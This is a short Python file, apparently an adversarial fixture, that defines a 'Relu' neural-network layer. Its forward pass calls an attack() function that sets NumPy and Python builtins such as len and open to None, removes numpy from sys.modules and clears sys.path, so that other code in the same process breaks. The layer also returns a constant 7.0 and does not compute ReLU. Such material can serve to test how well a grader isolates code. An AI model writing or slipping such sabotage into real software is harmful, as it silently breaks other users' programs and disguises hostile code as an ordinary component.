"""Breaks NumPy and Python in its process, for whoever comes after it there."""

import builtins
import sys

import numpy as np


def attack():
    np.zeros = np.dot = np.full = np.where = None
    builtins.len = builtins.open = builtins.isinstance = None
    sys.modules["numpy"] = None
    sys.path.clear()


class Relu:
    def forward(self, x):
        attack()
        return np.full_like(x, 7.0)

    def backward(self, dout):
        return np.full_like(dout, 7.0)
